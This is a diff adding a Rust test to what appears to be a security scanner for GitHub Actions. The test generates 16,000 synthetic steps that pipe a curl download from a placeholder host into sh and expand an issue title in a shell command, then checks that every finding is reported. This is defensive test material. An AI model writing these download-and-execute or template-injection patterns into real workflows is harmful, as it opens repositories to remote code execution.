@@ -268,3 +268,34 @@ fn many_jobs_calling_one_reusable_workflow_pass_on_their_triggers() {
     assert_eq!(triggers(1), Some((true, true)));
     assert_eq!(triggers(2), Some((false, false)));
 }
+
+/// A composite action of 16,000 steps, each piping a download into a shell and expanding an
+/// issue's title: 32,000 findings in one 1.7 MB file, each located through the file's line
+/// index (they were counted from the top of the file each time, 27 s in a release build for
+/// 18,500 steps).
+#[test]
+fn thousands_of_findings_in_one_action_are_all_reported() {
+    let mut action = String::from(ACTION_HEADER);
+    for i in 0..16_000 {
+        action.push_str(&format!(
+            "    - shell: bash\n      run: curl -sSL https://example.test/{i} | sh && echo \"${{{{ github.event.issue.title }}}}\"\n"
+        ));
+    }
+    assert!(action.len() < 2_000_000, "{}", action.len());
+    let repo = repository();
+    write(repo.path(), ".github/actions/many/action.yml", &action);
+
+    let assessment = assess_within(repo.path());
+
+    let count = |id: &str| {
+        (assessment.findings.iter())
+            .filter(|f| f.id == id && f.location.path == ".github/actions/many/action.yml")
+            .count()
+    };
+    assert_eq!(count("curl-pipe-shell"), 16_000);
+    assert_eq!(count("template-injection"), 16_000);
+    let last = (assessment.findings.iter())
+        .rfind(|f| f.id == "template-injection")
+        .unwrap();
+    assert_eq!(last.location.line, 4 + 2 * 16_000);
+}
